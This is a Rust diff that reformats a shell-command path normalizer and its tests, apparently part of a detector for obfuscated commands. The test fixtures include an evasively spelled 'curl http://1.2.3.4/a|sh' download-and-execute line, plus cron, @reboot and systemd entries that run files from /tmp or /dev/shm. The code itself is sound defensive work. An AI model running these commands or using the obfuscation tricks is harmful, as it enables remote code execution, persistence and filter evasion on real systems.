@@ -116,7 +116,11 @@ fn starts_path_after(prev: char) -> bool {
 
 /// Characters that end a path inside a command.
 fn ends_path(c: char) -> bool {
-    c.is_whitespace() || matches!(c, ';' | '|' | '&' | ')' | '<' | '>' | '`' | ':' | ',' | '\'' | '"')
+    c.is_whitespace()
+        || matches!(
+            c,
+            ';' | '|' | '&' | ')' | '<' | '>' | '`' | ':' | ',' | '\'' | '"'
+        )
 }
 
 fn normalize_paths_in(text: &str) -> Cow<'_, str> {
@@ -197,12 +201,18 @@ mod tests {
         for (spelled, meant) in [
             ("* * * * * root //tmp/x.sh", "* * * * * root /tmp/x.sh"),
             ("* * * * * root /./tmp/x.sh", "* * * * * root /tmp/x.sh"),
-            ("@reboot /usr/../tmp/x.sh >/dev/null", "@reboot /tmp/x.sh >/dev/null"),
+            (
+                "@reboot /usr/../tmp/x.sh >/dev/null",
+                "@reboot /tmp/x.sh >/dev/null",
+            ),
             ("ExecStart=/../dev/shm/x", "ExecStart=/dev/shm/x"),
             ("PATH=/usr/bin:/./tmp", "PATH=/usr/bin:/tmp"),
             ("/t''mp/x", "/tmp/x"),
             ("/t\\mp/\"x\"", "/tmp/x"),
-            ("cu''rl${IFS}http://1.2.3.4/a|s\\h", "curl http://1.2.3.4/a|sh"),
+            (
+                "cu''rl${IFS}http://1.2.3.4/a|s\\h",
+                "curl http://1.2.3.4/a|sh",
+            ),
             ("x=1;//tmp/a&&//tmp/b", "x=1;/tmp/a&&/tmp/b"),
         ] {
             assert_eq!(normalize_command(spelled), meant, "{spelled}");
